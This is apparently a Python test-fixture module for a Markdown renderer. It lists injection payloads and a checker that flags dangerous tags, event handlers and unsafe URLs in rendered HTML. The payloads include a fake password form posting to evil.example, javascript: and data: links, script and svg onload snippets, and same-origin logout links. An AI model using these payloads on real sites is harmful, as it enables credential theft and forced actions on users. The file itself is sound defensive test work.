"""Issue 8, item 3: the payloads that made rendered text act for the reader, and the check every rendering passes.

Shared by the unit tests (test_render_payloads.py, on `render_markdown`'s output) and the real-browser test
(test_browser_payloads.py, on the DOM Chromium builds from it).
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

FORM = "<form action=https://evil.example/steal><input name=password type=password><button>Log in</button></form>"

# name -> Markdown someone else wrote (a prompt file, the model, guidelines). Each of these produced an active
# element, a fetched image, a same-origin or relative URL or a script URL through the old `neutralise_html` rendered
# by gr.Markdown (checked when it was replaced).
PAYLOADS: dict[str, str] = {
    "image_logout": "Look: ![x](/ui/logout)",
    "image_logout_absolute": "![x](http://127.0.0.1:7860/ui/logout)",
    "image_external_tracker": "![x](https://evil.example/t.png)",
    "image_reference": "![chart][r]\n\n[r]: /ui/logout",
    "escaped_backtick_form": f"Session expired. \\`{FORM}`",
    "fence_info_backtick_form": f"```a`b\n{FORM}\n```",
    "escaped_backtick_svg_onload": '\\`<svg onload="window.__pwned = 3"><circle r=5 /></svg>`',
    "fence_info_backtick_iframe": "```x`\n<iframe src=/ui/logout></iframe><a href=/ui/logout>continue</a>\n```",
    "javascript_link": "[a](javascript:window.__pwned=4)",
    "javascript_link_entities": "[a](&#106;avascript:window.__pwned=5)",
    "relative_api_link": "[a](/api/users)",
    "relative_admin_link": "[the guidelines](/admin)",
    "protocol_relative_link": "[a](//127.0.0.1:7860/ui/logout)",
    "own_host_link": "[a](http://localhost:7860/ui/logout)",
    "ip_shorthand_link": "[a](http://127.1:7860/ui/logout)",
    "data_link": "[a](data:text/html,<script>alert(1)</script>)",
    "html_entities": "&#60;form action=x&#62;&#60;input name=p&#62; and ![x](&#47;ui&#47;logout)",
    "autolink_own_origin": "<http://127.0.0.1:7860/ui/logout> and http://127.0.0.1:7860/ui/logout",
    "nested_emphasis_image": "***_![x](/ui/logout)_*** and **[_b_](/api/users)**",
    "html_block_bypass": f"<div>\n\n\\`{FORM}`\n\n</div>",
    "table_cell_bypass": "| a |\n| - |\n| \\`<img src=/ui/logout>` |",
}
# Already shown as text by the old code; kept so that stays true (the Annotate tab shows `<script>` as text).
HELD_BEFORE: dict[str, str] = {
    "script": "<script>window.__pwned = 1</script>",
    "img_onerror": '<img src=x onerror="window.__pwned = 2">',
    "raw_anchor": '<a href="/ui/logout">continue</a>',
    "iframe": "<iframe src=/ui/logout></iframe>",
}

FORBIDDEN_TAGS = frozenset({
    "form", "input", "button", "textarea", "select", "option", "img", "picture", "source", "svg", "math", "iframe",
    "frame", "object", "embed", "script", "style", "link", "meta", "base", "video", "audio",
})
URL_ATTRIBUTES = frozenset({"href", "src", "srcset", "action", "formaction", "poster", "data", "background",
                            "xlink:href", "ping"})
OWN_HOSTS = frozenset({"127.0.0.1", "localhost", "::1", "0.0.0.0", "127.1"})


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html: str) -> tuple[list[tuple[str, dict[str, str]]], str]:
    """(tag, attributes) of every element, and the visible text."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements, "".join(parser.text)


def url_problem(url: str) -> str | None:
    """Why a URL in rendered text is unsafe, or None: only mailto and absolute http(s) to another site pass."""
    parts = urlsplit(url.strip())
    if parts.scheme == "mailto":
        return None
    if parts.scheme not in ("http", "https"):
        return f"scheme {parts.scheme!r}" if parts.scheme else "relative URL"
    if not parts.hostname or parts.hostname in OWN_HOSTS or parts.hostname.replace(".", "").isdigit():
        return f"our own host {parts.hostname!r}"
    return None


def problems(html: str) -> list[str]:
    """Everything in `html` that could act for the reader (empty when the rendering is safe)."""
    found = []
    for tag, attrs in parse(html)[0]:
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}> element")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"{name} attribute on <{tag}>")
            if name in URL_ATTRIBUTES and (why := url_problem(value)):
                found.append(f"{name}={value!r} on <{tag}>: {why}")
        if tag == "a" and "href" in attrs:
            if "noopener" not in attrs.get("rel", "") or attrs.get("target") != "_blank":
                found.append(f"link {attrs['href']!r} without rel=noopener / target=_blank")
    return found
